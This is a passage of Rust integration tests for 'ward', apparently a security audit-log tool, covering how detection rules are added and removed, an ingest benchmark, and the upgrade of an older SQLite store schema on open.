        !ward
            .ok(&["rules", "list"])
            .contains("11111111-2222-3333-4444-555555555555")
    );

    let added = ward.ok(&["rules", "add", good.to_str().unwrap(), "--by", "soc-lead"]);
    assert!(added.contains("certutil.yml: 1 rule(s) added"), "{added}");
    let listed = ward.ok(&["rules", "list", "--json"]);
    let line = listed
        .lines()
        .find(|l| l.contains("11111111-2222-3333-4444-555555555555"))
        .expect("the added rule is listed");
    assert!(line.contains("store:certutil.yml"), "{line}");

    ward.ok(&[
        "ingest",
        ward.file("b.ndjson", sysmon(2).as_bytes())
            .to_str()
            .unwrap(),
    ]);
    assert_eq!(alerts_of_rule(&ward), 1, "the added rule ran");

    ward.ok(&["rules", "remove", "certutil.yml"]);
    ward.ok(&[
        "ingest",
        ward.file("c.ndjson", sysmon(3).as_bytes())
            .to_str()
            .unwrap(),
    ]);
    assert_eq!(alerts_of_rule(&ward), 1, "removed: no new alert");
    let out = ward.run(&["rules", "remove", "certutil.yml"]);
    assert_eq!(out.status.code(), Some(2));
}

/// `ward bench ingest` on a small file: it generates the file, times the baseline parse and the
/// two floors (decode, decode + body encoding), ingests into a fresh store and checks that
/// every event was accepted, else it fails.
#[test]
fn bench_ingest_reports_the_baseline_the_floors_and_ingest() {
    let ward = Ward::new();
    let dir = ward.path("bench");
    let out = ward.ok(&[
        "bench",
        "ingest",
        "--events",
        "3000",
        "--workers",
        "1",
        "--dir",
        dir.to_str().unwrap(),
    ]);
    for line in [
        "generated 3000 AuditEvents",
        "baseline  serde_json::Value parse: 3000 lines",
        "floor     FHIR decode only (no store): ",
        "floor     decode + body encoding (no store): ",
        "ward ingest (decode + store, 1 worker(s)): 3000 events in ",
    ] {
        assert!(out.contains(line), "missing {line:?} in:\n{out}");
    }
    // The store it filled is a real one: its events can be listed.
    let listed = std::process::Command::new(env!("CARGO_BIN_EXE_ward"))
        .arg("--data-dir")
        .arg(dir.join("store"))
        .args(["events", "--json", "--limit", "5000"])
        .env_remove("WARD_CONFIG")
        .env_remove("WARD_DATA_DIR")
        .env_remove("WARD_KEK")
        .output()
        .unwrap();
    assert!(listed.status.success(), "{listed:?}");
    assert_eq!(
        String::from_utf8_lossy(&listed.stdout).lines().count(),
        3000
    );
}

/// A store written by a Ward before schema version 8 (lookup indexes led by the hour) is
/// upgraded when next opened: the command says so before it starts, since the new indexes
/// take a while on a large store, and then finds the stored events through them.
#[test]
fn an_older_store_is_upgraded_on_open_and_says_so_first() {
    let ward = Ward::new();
    let lines = [
        audit_read("a", "u1", "p1", "2024-05-01T10:00:00Z"),
        audit_read("b", "u2", "p2", "2024-05-01T10:20:00Z"),
        audit_read("c", "u1", "p1", "2024-05-01T11:40:00Z"),
    ];
    let file = ward.file("audit.ndjson", lines.join("\n"));
    assert_eq!(ward.ingest_json(&file)["accepted"], 3);

    // Put the events table back as schema version 7 left it.
    let db = rusqlite::Connection::open(ward.data_dir().join("ward.db")).unwrap();
    db.execute_batch(
        "DROP INDEX events_user_bucket; DROP INDEX events_patient_bucket;
         DROP INDEX events_src_ip_bucket; DROP INDEX events_host_bucket;
         ALTER TABLE events DROP COLUMN bucket;
         CREATE INDEX events_user_time ON events(hour, user_key, time) WHERE user_key IS NOT NULL;
         CREATE INDEX events_patient_time ON events(hour, patient_key, time) WHERE patient_key IS NOT NULL;
         CREATE INDEX events_src_ip_time ON events(hour, src_ip, time) WHERE src_ip IS NOT NULL;
         CREATE INDEX events_host_time ON events(hour, host, time) WHERE host IS NOT NULL;
         PRAGMA user_version = 7;",
    )
    .unwrap();
    drop(db);

    let out = ward.run(&["events", "--json", "--patient", "p1"]);
    assert!(out.status.success(), "{out:?}");
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("upgrading the store in") && stderr.contains("from schema version 7 to "),
        "{stderr}"
    );
    let found: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(found.len(), 2, "{found:?}");
    assert!(found.iter().all(|e| e["patient"]["id"] == "p1"));

    // Once upgraded, nothing more is said.
    let again = ward.run(&["events", "--json", "--patient", "p2"]);
    assert!(again.status.success(), "{again:?}");
    assert!(
        !String::from_utf8_lossy(&again.stderr).contains("upgrading"),
        "{again:?}"
    );
    assert_eq!(String::from_utf8_lossy(&again.stdout).lines().count(), 1);
    assert!(ward.ok(&["verify"]).contains("chain intact"));
}
